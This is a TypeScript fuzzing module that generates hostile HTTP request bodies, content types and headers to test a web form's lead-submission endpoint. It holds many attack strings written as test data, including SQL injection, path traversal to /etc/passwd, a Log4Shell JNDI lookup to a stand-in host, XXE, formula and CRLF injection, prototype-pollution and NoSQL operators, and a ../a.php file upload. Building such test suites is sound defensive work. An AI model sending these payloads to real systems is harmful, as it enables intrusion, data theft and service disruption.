import { LEAD_FIELDS } from '@guia/contract'
import type { Random } from '../../../sample/random.ts'
import { SCRIPTS } from './payloads.ts'

/** One request to the form's address. */
export interface HostileBody {
  type: string
  body: Buffer
  headers: Record<string, string>
}

const FORM = 'application/x-www-form-urlencoded'
const TYPES = [
  FORM,
  FORM,
  FORM,
  `${FORM}; charset=utf-16`,
  `${FORM}; charset=;;`,
  'application/json',
  'text/plain',
  'text/xml',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'multipart/x; boundary=',
  'application/vnd.api+json',
  'application/x-www-form-urlencoded, application/json',
  '',
  '*/*',
]
const KEYS = [
  ...LEAD_FIELDS,
  '__proto__',
  '__proto__[x]',
  'constructor[prototype][x]',
  'nombre[__proto__][x]',
  'nombre[$ne]',
  'nombre[]',
  'toString',
  'id',
  'state',
  'documentId',
  'sitio_web',
  '',
]
const TEXTS = [
  "' OR 1=1 --",
  "'; DROP TABLE leads; --",
  '%00',
  '%ff%fe',
  '%E0%A4%A',
  '%zz',
  '%',
  '%ED%A0%80',
  '%u0000',
  '../../../etc/passwd',
  '${jndi:ldap://ajeno.example/x}',
  '{{7*7}}',
  '=cmd|x!A1',
  'a%0d%0aX-Otro: 1',
  'NaN',
  '1e999',
  'ana%40correo.example',
  '3777555123',
  'ñ'.repeat(200),
]

const bytesOf = (random: Random, length: number) =>
  Buffer.from(Array.from({ length }, () => random.int(0, 255)))

const textOf = (random: Random): string =>
  random.chance(0.5) ? random.pick(TEXTS) : encodeURIComponent(random.pick(SCRIPTS))

const pairs = (random: Random): string =>
  Array.from({ length: random.int(0, 8) }, () => `${random.pick(KEYS)}=${textOf(random)}`).join('&')

const deepJson = (depth: number, inside: string) => `${'{"a":['.repeat(depth)}${inside}`

/** A part of a form with a file, with its end or without. */
const multipart = (random: Random): string =>
  '--x\r\nContent-Disposition: form-data; name="files"; filename="../a.php"\r\n' +
  `Content-Type: text/html\r\n\r\n${random.pick(SCRIPTS)}\r\n${random.chance(0.5) ? '--x--' : ''}`

/** Every way to be no form of three short texts; each is asked for its share. */
const MAKERS: readonly ((random: Random) => string | Buffer)[] = [
  (random) => bytesOf(random, random.int(0, 600)),
  pairs,
  pairs,
  (random) => LEAD_FIELDS.map((field) => `${field}=${textOf(random)}`).join('&'),
  // The one that may be taken.
  (random) => `nombre=${textOf(random)}&email=ana%40correo.example&telefono=3777555123`,
  (random) =>
    LEAD_FIELDS.map(
      (field) => `${field}=a%40b.example+123456${'%00'.repeat(random.int(0, 3))}`,
    ).join('&'),
  (random) => `nombre${'[a]'.repeat(random.int(1, 900))}=1`,
  (random) => 'a=1&'.repeat(random.int(1, 4_000)),
  (random) => `nombre=${'x'.repeat(random.int(3_900, 300_000))}`,
  (random) => deepJson(random.int(1, 500), '1'),
  (random) => deepJson(random.int(1, 100), ']}'.repeat(100)),
  (random) => JSON.stringify({ nombre: [1], email: { $gt: '' }, telefono: random.next() }),
  () => '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}',
  () => '["a"]',
  () => 'null',
  () => '',
  multipart,
  (random) => multipart(random).repeat(random.int(1, 40)),
  (random) =>
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;${random.next()}</a>`,
  (random) => `query=mutation{createLead(data:{nombre:"${random.int(0, 9)}"}){id}}`,
]

/** What may stand beside it; a browser's own words are believed by nobody else. */
const headersOf = (random: Random): Record<string, string> => ({
  ...(random.chance(0.2) && {
    'idempotency-key': random.pick(['a'.repeat(64), "a' OR 1", '-', 'x'.repeat(900)]),
  }),
  ...(random.chance(0.1) && { 'content-encoding': random.pick(['gzip', 'deflate', 'br', 'x']) }),
  ...(random.chance(0.1) && { 'x-http-method-override': 'DELETE' }),
  ...(random.chance(0.1) && {
    authorization: random.pick(['Bearer null', 'Bearer a.b.c', 'Basic Og==']),
  }),
  ...(random.chance(0.1) && { expect: '100-continue' }),
})

/** The next body of a seed's own. */
export function hostileBody(random: Random): HostileBody {
  const body = random.pick(MAKERS)(random)
  return {
    type: random.pick(TYPES),
    body: Buffer.isBuffer(body) ? body : Buffer.from(body),
    headers: headersOf(random),
  }
}
